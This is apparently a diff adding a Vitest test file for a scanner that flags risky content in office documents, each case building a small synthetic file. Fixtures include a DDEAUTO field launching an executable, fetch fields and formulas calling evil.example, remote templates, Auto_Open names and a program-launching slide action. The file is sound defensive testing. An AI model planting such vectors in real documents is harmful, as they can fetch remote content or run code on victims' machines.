@@ -1,0 +1,237 @@
+// Every kind of finding that issue and threat table name, each against a document of our own that holds it.
+
+import { afterEach, describe, expect, it } from 'vitest';
+
+import { makeDocx, makeXlsx, makeZip } from '../testing/office-maker.ts';
+import { unsafeCaptureFrames } from './cage/emit.ts';
+import { Findings } from './findings.ts';
+import type { Kind } from './kind.ts';
+import { FRAME } from './list/frame.ts';
+import { reportOffice } from './readers/office-findings.ts';
+
+async function found(
+  kind: Kind,
+  bytes: Uint8Array,
+): Promise<{ kinds: Set<string>; findings: Findings }> {
+  const findings = new Findings();
+  unsafeCaptureFrames((type, payload) => {
+    if (type === FRAME.remark) findings.take(payload);
+  });
+  await reportOffice(kind, bytes);
+  unsafeCaptureFrames(undefined);
+  const kinds = new Set<string>([
+    ...findings.removedList().map((finding) => finding.kind),
+    ...findings.hiddenList().map((finding) => finding.kind),
+    ...findings.remarks.map((remark) => remark.what),
+    ...(findings.links.length > 0 ? ['link'] : []),
+  ]);
+  return { kinds, findings };
+}
+afterEach(() => unsafeCaptureFrames(undefined));
+
+const run = (inner: string): string => `<w:p><w:r>${inner}</w:r></w:p>`;
+const field = (code: string): string =>
+  run(`<w:instrText>${code}</w:instrText>`) + run('<w:fldChar w:fldCharType="end"/>');
+const rels = (inner: string): Record<string, string> => ({
+  'word/_rels/document.xml.rels': `<Relationships>${inner}</Relationships>`,
+});
+const outside = (type: string): Record<string, string> =>
+  rels(
+    `<Relationship Id="a" Type="x/${type}" Target="http://evil.example/a" TargetMode="External"/>`,
+  );
+const row = (inner: string, more = ''): string =>
+  `<sheetData><row r="1"${more}><c r="A1">${inner}</c></row></sheetData>`;
+const slide = (inner: string, more = ''): Uint8Array =>
+  makeZip({ 'ppt/slides/slide1.xml': `<p:sld xmlns:p="p" xmlns:a="a"${more}>${inner}</p:sld>` });
+const odf = (inner: string): Uint8Array =>
+  makeZip({
+    'content.xml': `<office:document-content xmlns:office="o" xmlns:text="t" xmlns:dc="d" xmlns:table="b" xmlns:script="s" xmlns:draw="w" xmlns:xlink="x">${inner}</office:document-content>`,
+  });
+
+const CASES: readonly (readonly [string, Kind, string, Uint8Array])[] = [
+  ['a macro', 'docx', 'macro', makeDocx('', { 'word/vbaProject.bin': 'x' })],
+  [
+    'a macro sheet',
+    'xlsx',
+    'macro-sheet',
+    makeXlsx([], { parts: { 'xl/macrosheets/sheet1.xml': '<x/>' } }),
+  ],
+  [
+    'a name that opens by itself',
+    'xlsx',
+    'macro-sheet',
+    makeXlsx([], { workbook: '<definedName name="Auto_Open">A!A1</definedName>' }),
+  ],
+  [
+    'a field that fetches',
+    'docx',
+    'field-code',
+    makeDocx(field('INCLUDEPICTURE "http://evil.example/p"')),
+  ],
+  ['a DDE field', 'docx', 'dde', makeDocx(field('DDEAUTO c:\\\\x.exe "a"'))],
+  [
+    'a DDE link',
+    'xlsx',
+    'dde',
+    makeXlsx([], {
+      parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink/></externalLink>' },
+    }),
+  ],
+  ['an OLE object', 'docx', 'ole-object', makeDocx('', { 'word/embeddings/oleObject1.bin': 'x' })],
+  ['an ActiveX control', 'docx', 'activex', makeDocx('', { 'word/activeX/activeX1.xml': '<x/>' })],
+  ['a form field', 'docx', 'form-field', makeDocx('<w:sdt><w:sdtContent/></w:sdt>')],
+  ['a remote template', 'docx', 'remote-template', makeDocx('', outside('attachedTemplate'))],
+  ['a picture from elsewhere', 'docx', 'external-relationship', makeDocx('', outside('image'))],
+  ['a link', 'docx', 'link', makeDocx('', outside('hyperlink'))],
+  [
+    'a data connection',
+    'xlsx',
+    'connection',
+    makeXlsx([], { parts: { 'xl/connections.xml': '<x/>' } }),
+  ],
+  [
+    'a formula that reaches out',
+    'xlsx',
+    'external-formula',
+    makeXlsx([{ name: 'A', xml: row('<f>WEBSERVICE("http://evil.example")</f>') }]),
+  ],
+  ['custom data', 'docx', 'custom-data', makeDocx('', { 'customXml/item1.xml': '<x/>' })],
+  ['a script', 'xlsx', 'script', makeXlsx([], { parts: { 'customUI/customUI.xml': '<x/>' } })],
+  ['a signature', 'docx', 'signature', makeDocx('', { '_xmlsignatures/sig1.xml': '<x/>' })],
+  ['a film', 'pptx', 'media', makeZip({ 'ppt/media/a.mp4': 'x', 'ppt/presentation.xml': '<x/>' })],
+  ['a font', 'docx', 'font-program', makeDocx('', { 'word/fonts/font1.odttf': 'x' })],
+  [
+    'an author',
+    'docx',
+    'metadata',
+    makeDocx('', { 'docProps/core.xml': '<c xmlns:dc="d"><dc:creator>Bea</dc:creator></c>' }),
+  ],
+  [
+    'a document type',
+    'docx',
+    'active-element',
+    makeDocx('', {
+      'word/comments.xml': '<x/>',
+      'word/_rels/a.rels': '<!DOCTYPE a SYSTEM "http://evil.example"><x/>',
+    }),
+  ],
+  [
+    'a comment',
+    'docx',
+    'comment',
+    makeDocx('', {
+      'word/comments.xml':
+        '<w:comments xmlns:w="w"><w:comment w:author="Cy"><w:p><w:r><w:t>no</w:t></w:r></w:p></w:comment></w:comments>',
+    }),
+  ],
+  [
+    'an insertion',
+    'docx',
+    'inserted',
+    makeDocx('<w:p><w:ins w:author="B"><w:r><w:t>in</w:t></w:r></w:ins></w:p>'),
+  ],
+  [
+    'a deletion',
+    'docx',
+    'deleted',
+    makeDocx('<w:p><w:del w:author="B"><w:r><w:delText>out</w:delText></w:r></w:del></w:p>'),
+  ],
+  [
+    'a move',
+    'docx',
+    'moved',
+    makeDocx('<w:p><w:moveTo w:author="B"><w:r><w:t>to</w:t></w:r></w:moveTo></w:p>'),
+  ],
+  [
+    'hidden words',
+    'docx',
+    'hidden-text',
+    makeDocx(run('<w:rPr><w:vanish/></w:rPr><w:t>secret</w:t>')),
+  ],
+  [
+    'a hidden sheet',
+    'xlsx',
+    'hidden-sheet',
+    makeXlsx([{ name: 'A', state: 'hidden', xml: row('<v>7</v>') }]),
+  ],
+  [
+    'a hidden row',
+    'xlsx',
+    'hidden-row-or-column',
+    makeXlsx([{ name: 'A', xml: row('<v>7</v>', ' hidden="1"') }]),
+  ],
+  [
+    'a hidden column',
+    'xlsx',
+    'hidden-row-or-column',
+    makeXlsx([
+      { name: 'A', xml: `<cols><col min="1" max="1" hidden="1"/></cols>${row('<v>7</v>')}` },
+    ]),
+  ],
+  ['a hidden slide', 'pptx', 'hidden-slide', slide('<a:t>plan b</a:t>', ' show="0"')],
+  [
+    'speaker notes',
+    'pptx',
+    'speaker-notes',
+    makeZip({
+      'ppt/notesSlides/notesSlide1.xml':
+        '<p:notes xmlns:p="p" xmlns:a="a"><a:t>say less</a:t></p:notes>',
+    }),
+  ],
+  ['an action of a slide', 'pptx', 'action', slide('<a:hlinkClick action="ppaction://program"/>')],
+  [
+    'an annotation of OpenDocument',
+    'odt',
+    'comment',
+    odf('<office:annotation><dc:creator>B</dc:creator><text:p>no</text:p></office:annotation>'),
+  ],
+  [
+    'hidden words of OpenDocument',
+    'odt',
+    'hidden-text',
+    odf('<text:hidden-text text:string-value="secret"/>'),
+  ],
+  [
+    'a script of OpenDocument',
+    'odt',
+    'script',
+    odf('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
+  ],
+  [
+    'a hidden sheet of OpenDocument',
+    'ods',
+    'hidden-sheet',
+    odf('<table:table table:name="B" table:display="false"/>'),
+  ],
+  [
+    'an object in RTF',
+    'rtf',
+    'ole-object',
+    new TextEncoder().encode('{\\rtf1{\\object\\objemb{\\*\\objdata 00}}}'),
+  ],
+  [
+    'a template in RTF',
+    'rtf',
+    'remote-template',
+    new TextEncoder().encode('{\\rtf1{\\*\\template http://evil.example/t}}'),
+  ],
+];
+
+describe('the report names', () => {
+  it.each(CASES)('%s', async (_, kind, word, bytes) => {
+    const { kinds } = await found(kind, bytes);
+    expect([...kinds]).toContain(word);
+  });
+
+  it('nothing in documents that hold nothing', async () => {
+    const plain: readonly (readonly [Kind, Uint8Array])[] = [
+      ['docx', makeDocx(run('<w:t>words</w:t>'))],
+      ['xlsx', makeXlsx([{ name: 'A', xml: row('<f>1+1</f><v>2</v>') }])],
+      ['pptx', slide('<a:t>words</a:t>')],
+      ['odt', odf('<text:p>words</text:p>')],
+      ['rtf', new TextEncoder().encode('{\\rtf1 words}')],
+    ];
+    for (const [kind, bytes] of plain)
+      expect([kind, ...(await found(kind, bytes)).kinds]).toEqual([kind]);
+  });
+});
